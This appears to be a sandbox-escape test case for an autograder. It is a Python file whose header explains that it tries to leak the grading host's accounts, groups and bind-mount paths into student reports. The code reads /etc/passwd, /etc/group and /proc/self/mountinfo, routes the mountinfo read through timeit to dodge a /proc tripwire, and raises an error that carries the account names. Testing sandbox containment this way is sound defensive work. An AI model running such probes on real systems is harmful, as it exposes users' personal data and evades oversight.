# Mechanism: facts about the grading host that the sandbox still shows, printed into the report. The
#   worker is given the host's /etc/passwd and /etc/group (every account on the machine, with its home
#   and real name: on a hub where students are accounts, the class list), the host paths of its binds
#   (/proc/self/mountinfo: the grading user's home, the compilation cache's and the runtime copy's host
#   folders, the judge's pid in the folder name), sys.argv and sys.base_prefix (host paths). mountinfo is
#   read by code laundered through timeit, so no /proc tripwire fires; /etc files need no laundering.
#   Everything is printed (the student's output, in every report and in the student's feedback) and the
#   account names also raised from a cell (a flag).
# Tries to leak: host data (accounts, groups, home folders, host directory layout) into the report.
# Contained outcome: none of the host's accounts, groups or host paths appear in any report (the worker
#   sees a synthetic passwd/group and no host paths), or the output is withheld.
from functools import partial
import sys
import timeit

import jax
import jax.numpy as jnp


def _read(path, limit=3000):
    try:
        with open(path) as handle:
            return handle.read()[:limit]
    except OSError as error:
        return f"<{error}>"


_accounts = [line.split(":")[0] + ":" + line.split(":")[5] for line in _read("/etc/passwd", 20000).splitlines()
             if line.count(":") >= 6]
print("HOST ACCOUNTS:", ", ".join(_accounts))
print("HOST GROUPS:", _read("/etc/group", 1500).replace("\n", " "))
print("argv:", sys.argv, "base_prefix:", sys.base_prefix, "path:", sys.path)
_mounts = []
timeit.timeit('''
with open("/proc/self/mountinfo") as handle:
    for line in handle:
        fields = line.split()
        mounts.append(fields[3] + " -> " + fields[4])
''', setup="", number=1, globals={"mounts": _mounts})
print("HOST BINDS:", "; ".join(m for m in _mounts if m.split(" -> ")[0] != "/"))


@jax.jit
def norm(X):
    return (X - X.mean(0)) / X.std(0)


def negatives(x):
    return jnp.where(x < 0, x, 0.0)


def flatten(x):
    return x.reshape(x.size)


@partial(jax.jit, static_argnames='neg')
def maybe_negate(x, neg):
    return -x if neg else x


raise RuntimeError("accounts on the grading host: " + " ".join(a.split(":")[0] for a in _accounts))
